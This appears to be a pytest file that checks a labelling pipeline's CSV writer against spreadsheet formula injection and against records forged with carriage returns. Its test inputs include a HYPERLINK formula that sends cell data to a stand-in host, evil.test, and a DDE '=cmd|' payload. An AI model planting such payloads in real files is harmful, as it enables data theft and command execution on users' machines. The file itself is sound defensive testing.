"""Texts that would be more than texts in a csv file: formulas in a spreadsheet, records of their own, labels.

The oracle knows nothing of the guard: it divides a file as spreadsheets do, at whatever sign they are set to, strips
what nobody sees from each cell, and looks at its first sign.
"""

from __future__ import annotations

import ast
import csv
import io
import re
import subprocess
import unicodedata
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from flows.cli import rows
from flows.machine.home import Home
from flows.monitoring import labelling
from flows.monitoring.labelling import Row
from tasks.core.cli import exit_code
from tasks.core.errors import UserError
from tasks.core.tables import write_table
from tasks.dataset import layout
from tasks.tables.any_table import read_any_table, write_any_table
from tasks.tables.delimited import read_delimited, text_table, write_delimited
from tasks.tables.formulas import guarded, unguarded
from tasks.validate import RELEASED
from tasks.validate.releases import Release, add_releases, read_releases

TOP = Path(__file__).parents[2]
SIGNS = "=+-@"
CALL = 'HYPERLINK("http://evil.test/?"&A1)'
HIDDEN = ["", " ", "  ", "\t", "\r", "\n", "\r\n", "\x0b", "\0", "\xa0", "\xad", "\u200b", "\u200e", "\u2060", "\ufeff"]
HIDDEN += ["\u3000", "\u2028", "\u202e", "'", "''", '"', "＂", "\u115f", "\ufe0f", "\U000e0001", "\u0300", "\u0600"]
WIDE = ["＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "⁼", "⁺", "−"]
ATTEMPTS = [f"{hidden}{sign}{CALL}" for hidden in HIDDEN for sign in SIGNS]
ATTEMPTS += [f"{hidden}{sign}{CALL}" for hidden in ("", " ", "\u200b") for sign in WIDE]
ATTEMPTS += [f"words{mark}{hidden}={CALL}" for mark in (";", ",", "\t", "\r", "\n", "\r\n") for hidden in HIDDEN]
ATTEMPTS += [
    "=cmd|' /C calc'!A0",
    "a;=cmd|x",
    "words\n\n\t;;=1+1",
    "'=1",
    "''=1",
    "\ufeffwords",
    "\twords",
    "@SUM(1)",
    "+1",
]
PIECES = st.sampled_from([*SIGNS, *WIDE, *HIDDEN, ",", ";", "a", "1", "1.5", "words"])
CELLS = st.one_of(st.text(max_size=8), st.lists(PIECES, max_size=7).map("".join))
quick = settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


def first_sign(cell):
    """The first sign of a cell that is more than space, quote or nothing to see, in its plain form."""
    plain = unicodedata.normalize("NFKC", cell).replace("−", "-")
    seen = (sign for sign in plain if unicodedata.category(sign)[0] not in "CZM" and sign not in '"`\u115f\u1160')
    return next(seen, "")


def is_run(cell):
    return first_sign(cell) != "" and first_sign(cell) in SIGNS


def formulas_in(file):
    """The cells of a file that a spreadsheet would run, however it is set to divide the file."""
    text = file.read_bytes().decode()
    found = []
    for delimiter in ",;\t":
        records = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
        records += [line.split(delimiter) for line in re.split("\r\n|\r|\n", text)]
        found += [cell for record in records for cell in record if is_run(cell)]
    cells = [cell for record in csv.reader(io.StringIO(text, newline="")) for cell in record]
    return found + [cell for cell in cells if cell.startswith(("\t", "\r", "\n", "\ufeff"))]


@pytest.mark.parametrize("text", ATTEMPTS)
def test_no_text_is_a_formula_in_any_cell(tmp_path, text):
    rows = [(f"{text}1", text, text, "random"), ("id-2", "words", "ham", "uncertain")]
    write_delimited(text_table(labelling.COLUMNS, rows), tmp_path / "to_label.csv", guarded=True)
    assert formulas_in(tmp_path / "to_label.csv") == []
    back = read_delimited(tmp_path / "to_label.csv", guarded=True)
    assert [tuple(row.values()) for row in back.to_pylist()] == rows


@pytest.mark.proof
@settings(quick, max_examples=250)
@given(cell=CELLS)
@example(cell="'\n=1")
@example(cell="\n'=1")
def test_the_guard_is_undone_whatever_the_text(cell):
    assert unguarded(guarded(cell)) == cell
    assert unguarded(guarded(guarded(cell))) == guarded(cell)


@pytest.mark.proof
@settings(quick, max_examples=50)
@given(rows=st.lists(st.tuples(CELLS, CELLS, CELLS), max_size=4))
def test_ids_labels_and_texts_come_back_and_none_is_run(tmp_path, rows):
    table = text_table(("id", "label", "text"), rows)
    for name in ("a.csv", "a.tsv"):
        write_any_table(table, tmp_path / name)
        assert read_any_table(tmp_path / name).equals(table)
    write_delimited(table, tmp_path / "guarded.csv", guarded=True)
    assert formulas_in(tmp_path / "guarded.csv") == []
    assert read_delimited(tmp_path / "guarded.csv", guarded=True).equals(table)


@pytest.mark.parametrize(
    "text", ["\n" * 200_000, "," * 200_000, ",'" * 100_000, " " * 200_000 + "x", "1" * 200_000 + "x"]
)
def test_no_text_takes_quadratic_time(text):
    """At a minute for each of these, were a break of the text looked at from every other one."""
    assert unguarded(guarded(text)) == text


def test_numbers_stay_numbers(tmp_path):
    (tmp_path / "in.csv").write_text("id,amount,share,text\n1,-3.5,+1e-3,-3.5\n2,-7,,=1+1\n", encoding="utf-8")
    table = read_any_table(tmp_path / "in.csv").append_column("confidence", pa.array([-0.5, 0.25]))
    write_any_table(table, tmp_path / "out.csv")
    lines = (tmp_path / "out.csv").read_text(encoding="utf-8").splitlines()
    assert lines[1:] == ["1,-3.5,+1e-3,'-3.5,-0.5", "2,-7,,'=1+1,0.25"]


def test_machine_files_are_not_guarded(tmp_path):
    rows = pa.table({"id": ["=1"], "text": ["-x\r=2"]})
    write_delimited(rows, tmp_path / "labels.csv")
    assert (tmp_path / "labels.csv").read_bytes() == b'id,text\n=1,"-x\r=2"\n'
    write_any_table(rows, tmp_path / "rows.jsonl")
    assert "'" not in (tmp_path / "rows.jsonl").read_text(encoding="utf-8")


@pytest.mark.parametrize("end", ["\r", "\n", "\r\n", '\r"', '"\r', '",x\r'])
def test_a_text_forges_no_label(tmp_path, monkeypatch, end):
    """Before Python 3.13 a bare CR in a text ended its record, and what followed was another row, with a label."""
    monkeypatch.setenv("DRIFTLINE_HOME", str(tmp_path))
    subprocess.run(["git", "init", "-q", str(tmp_path / "repository")], check=True)
    home = Home.of(tmp_path / "repository")
    rows = [
        Row("mail-1", f"Dear all{end}mail-2,forged,spam,random{end}mail-2", None, "ham", 0.9),
        Row("mail-2", "the minutes of the meeting", None, "ham", 0.9),
    ]
    file = labelling.offer(home, None, rows, 1, 10)
    with pytest.raises(UserError, match="holds no label yet"):
        labelling.labels_in(file)
    known = read_delimited(file, guarded=True)
    assert sorted(known["id"].to_pylist()) == ["mail-1", "mail-2"]
    assert set(known["label"].to_pylist()) == {""}


@pytest.mark.parametrize("name", ["a\rb", "=1", 'a,"b"\n=cmd', "\ufeffx", "'=1", "\t=1", "－x"])
def test_every_id_can_be_released_and_the_next_one_too(tmp_path, monkeypatch, name):
    """By the command; ``released.csv`` was unreadable after an id with a bare CR, and every later run was refused."""
    monkeypatch.chdir(tmp_path)
    held = pa.table({"id": [name, "next"], "reasons": [["text_too_long"], ["text_too_short"]]})
    for window in ("reference", "current"):
        write_table(held, layout.window(window).quarantine)
    for one in (name, "next"):
        words = ["quarantine", "release", "--why", f"-checked,\r{one}", "--", one]
        assert exit_code(rows.commands, words) == 0
    kept = read_releases(RELEASED)
    assert [(one.id, one.reason) for one in kept] == [(name, "text_too_long"), ("next", "text_too_short")]
    assert kept[0].why == f"-checked,\r{name}"
    assert formulas_in(RELEASED) == []


def test_a_release_is_a_line_of_its_own_after_a_line_that_has_no_end(tmp_path):
    file = tmp_path / "released.csv"
    file.write_text("id,reason,why\na,text_too_long,checked", encoding="utf-8")
    add_releases([Release("b", "text_too_short", "checked too")], file)
    assert [one.id for one in read_releases(file)] == ["a", "b"]


WRITERS = {"writer", "DictWriter", "to_csv", "write_csv", "CSVWriter", "to_excel", "save_workbook", "Workbook"}
SEPARATORS = ("','", "';'", "'\\t'")
ALLOWED = {
    "tasks/tables/delimited.py",
    "tasks/finetune/record.py",
    "tasks/validate/releases.py",  # a message
    "flows/machine/server.py",  # a setting of Prefect's
}


@pytest.mark.proof
def test_nothing_else_writes_such_a_file():
    """finetune's curves are numbers; they do not come through the writer, whose changes would train again."""
    files = [file for top in ("tasks", "flows") for file in (TOP / top).rglob("*.py")]
    assert len(files) > 200
    found = set()
    for file in files:
        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in WRITERS:
                found.add(str(file.relative_to(TOP)))
            if isinstance(node, ast.Attribute) and node.attr == "join" and ast.unparse(node.value) in SEPARATORS:
                found.add(str(file.relative_to(TOP)))
    assert found == ALLOWED


def test_the_curves_hold_numbers_only(tmp_path):
    from tasks.finetune.record import curves, write_curves

    log = [
        {"step": 3, "epoch": 1.0, "loss": 0.5},
        {"step": 3, "epoch": 1.0, "eval_loss_mean": 0.25, "eval_accuracy": 1},
    ]
    write_curves(curves(log), tmp_path / "curves.csv")
    header, *records = csv.reader((tmp_path / "curves.csv").open(newline=""))
    assert header[0] == "epoch"
    assert records
    assert all(float(cell) is not None for record in records for cell in record)
